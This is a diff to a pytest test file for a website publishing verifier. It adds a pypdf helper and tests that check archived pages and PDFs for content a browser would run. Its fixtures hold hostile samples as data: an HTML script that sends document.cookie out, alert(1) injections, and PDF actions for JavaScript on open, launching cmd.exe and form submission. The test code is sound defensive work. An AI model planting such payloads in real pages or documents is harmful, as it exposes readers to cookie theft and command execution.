@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import io
+
 import gzip
 
 import pytest
@@ -120,6 +122,32 @@ def _zip(members: dict) -> bytes:
 
 
 ARCHIVED = '<!doctype html><html lang="sv"><head><script>fetch("/x?"+document.cookie)</script></head><body><article class="md-content__inner"><p>Plan 1.0</p></article></body></html>'
+def _pdf(catalog: dict | None = None, annotation: dict | None = None, text: str = "") -> bytes:
+    """A one-page PDF written by pypdf, with the given entries in its catalog, one annotation, and a text."""
+    from pypdf import PdfWriter
+    from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject, TextStringObject
+
+    def pdf_value(value):
+        if isinstance(value, dict):
+            return DictionaryObject({NameObject(key): pdf_value(item) for key, item in value.items()})
+        return NameObject(value) if value.startswith("/") else TextStringObject(value.strip("()"))
+
+    writer = PdfWriter()
+    page = writer.add_blank_page(200, 200)
+    content = DecodedStreamObject()
+    content.set_data(f"BT /F1 12 Tf 10 10 Td ({text}) Tj ET".encode("latin-1"))
+    page[NameObject("/Contents")] = writer._add_object(content)
+    if annotation:
+        annotation = pdf_value({"/Type": "/Annot", **annotation})
+        annotation[NameObject("/Rect")] = ArrayObject([FloatObject(0)] * 4)
+        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    for key, value in (catalog or {}).items():
+        writer._root_object[NameObject(key)] = pdf_value(value)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
 HOSTILE_FILES = [
     # an archived page with a script in its head and no policy (the issue's example)
     ("arkiv/1.0/index.html", ARCHIVED, ["the page runs a script that is not the theme's own", "the page carries no Content-Security-Policy"]),
@@ -143,7 +171,12 @@ HOSTILE_FILES = [
     # files that can carry script, or that the site never publishes
     ("arkiv/1.0/sida.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>", ["files of type '.xhtml' are not published"]),
     ("arkiv/1.0/sida.htm", ARCHIVED, ["files of type '.htm' are not published"]),
-    ("plan.pdf", b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj", ["the PDF holds an action or script"]),
+    # PDFs, read as a reader reads them: what runs on opening, a link that launches, an attached file, a broken file
+    ("plan.pdf", _pdf(catalog={"/OpenAction": {"/S": "/JavaScript", "/JS": "(app.alert(1))"}}), ["the PDF holds /OpenAction, which runs or opens something"]),
+    ("plan2.pdf", _pdf(annotation={"/Subtype": "/Link", "/A": {"/S": "/Launch", "/F": "(cmd.exe)"}}), ["the PDF holds a link action /Launch; only /URI and /GoTo are allowed"]),
+    ("plan3.pdf", _pdf(annotation={"/Subtype": "/Link", "/A": {"/S": "/SubmitForm", "/F": "(https://x.example/)"}}), ["the PDF holds a link action /SubmitForm; only /URI and /GoTo are allowed"]),
+    ("plan4.pdf", _pdf(annotation={"/Subtype": "/FileAttachment", "/Contents": "(x)"}), ["the PDF holds an annotation /FileAttachment; only links are allowed"]),
+    ("plan5.pdf", b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj", ["the PDF cannot be read"]),
     ("assets/extra.css", "@import url(https://fonts.example/x.css);", ["the style sheet loads from outside the site"]),
     ("assets/images/favicon.png", "<script>alert(1)</script>", ["is not the PNG image its name says"]),
     # the offline copy's zip, member by member
@@ -160,7 +193,19 @@ def test_every_published_file_is_judged_for_what_a_browser_would_run_in_it(tmp_p
     assert len(found) == len(faults) and all(line.startswith(f"site/{name}:1: {fault}") and line.endswith(verify.FIX) for line, fault in zip(found, faults)), found
 
 
+def verify_file_faults(name: str, data: bytes) -> list[str]:
+    from samverkan.site.published import file_faults
+
+    return file_faults(name, data)
+
+
 def test_a_symbolic_link_in_the_site_is_one_line_and_a_text_file_none(tmp_path):
     assert published(tmp_path, "robots.txt", "User-agent: *") == []
     (tmp_path / "site" / "passwd.txt").symlink_to("/etc/passwd")
     assert [str(problem) for problem in verify.problems(tmp_path / "site", PUBLIC)] == [f"site/passwd.txt:1: is a symbolic link, which the site does not publish — {verify.FIX}"]
+
+
+def test_a_pdf_with_links_and_names_in_its_text_is_published():
+    """What Chromium prints: links to places and addresses; words such as /AA or /JS in the text are not actions."""
+    links = _pdf(annotation={"/Subtype": "/Link", "/A": {"/S": "/URI", "/URI": "(https://www.riksdagen.se/)"}}, text="/AA /JS /Launch")
+    assert verify_file_faults("plan.pdf", links) == []
